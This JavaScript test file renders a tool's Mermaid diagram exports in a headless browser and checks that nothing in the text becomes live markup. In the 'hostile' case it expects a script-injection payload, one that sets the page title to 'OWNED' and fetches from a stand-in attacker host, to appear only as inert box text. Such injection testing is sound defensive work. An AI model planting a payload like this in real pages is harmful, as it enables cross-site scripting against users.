// mermaid: Mermaid draws a box an event and an arrow a link, and nothing in a text acts.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { destal, launch, openPage } from "./browser.mjs";

const FIXTURES = "tests/fixtures/valid";
const DATASETS = { shipped: [], small: ["--data", `${FIXTURES}/small.json`], hostile: ["--data", `${FIXTURES}/hostile.json`] };
const LIBRARY = readFileSync("tests/consumers/node_modules/mermaid/dist/mermaid.min.js", "utf8");

const browser = await launch();
let arrows = 0;
for (const [name, data] of Object.entries(DATASETS)) {
  const whole = JSON.parse(destal("export", "dataset", ...data));
  const inside = new Set(whole.events.filter((event) => !event.background).map((event) => event.id));
  const links = whole.links.filter((link) => inside.has(link.from) || inside.has(link.to));
  const linked = new Set(links.flatMap((link) => [link.from, link.to]));
  const text = destal("export", "mermaid", ...data);
  for (const securityLevel of ["strict", "loose"]) {
    const { page, wrong } = await openPage(browser);
    await page.setContent('<!doctype html><title>check</title><link rel="icon" href="data:,"><div id="d"></div>');
    await page.addScriptTag({ content: LIBRARY });
    const seen = await page.evaluate(
      async ([text, securityLevel]) => {
        mermaid.initialize({ startOnLoad: false, securityLevel });
        await mermaid.parse(text);
        const { svg } = await mermaid.render("graph", text);
        document.getElementById("d").innerHTML = svg;
        await new Promise((done) => setTimeout(done, 100));
        return {
          boxes: [...document.querySelectorAll("g.node")].map((node) => node.textContent),
          arrows: document.querySelectorAll("path.flowchart-link").length,
          labels: [...document.querySelectorAll(".edgeLabel p")].map((label) => label.textContent),
          acts: document.querySelectorAll("#d script, #d img, #d a, #d iframe").length,
          run: document.title,
        };
      },
      [text, securityLevel],
    );
    assert.equal(seen.boxes.length, linked.size, name);
    assert.equal(seen.arrows, links.length, name);
    assert.equal(seen.acts, 0, name);
    assert.equal(seen.run, "check");
    if (name === "hostile") {
      const script = '<script>document.title="OWNED";fetch("http://evil.example/x")</script>';
      assert.ok(seen.boxes.some((box) => box.startsWith(script)), JSON.stringify(seen.boxes));
    }
    if (name === "small") assert.ok(seen.labels.includes("memoir p. 41"), JSON.stringify(seen.labels));
    if (name === "shipped") await page.screenshot({ path: join(process.env.SCRATCH, "shipped.png"), fullPage: true });
    assert.deepEqual(wrong, [], name);
    arrows += seen.arrows;
    await page.context().close();
  }
}
await browser.close();
console.log(`${arrows} arrows, one a link`);
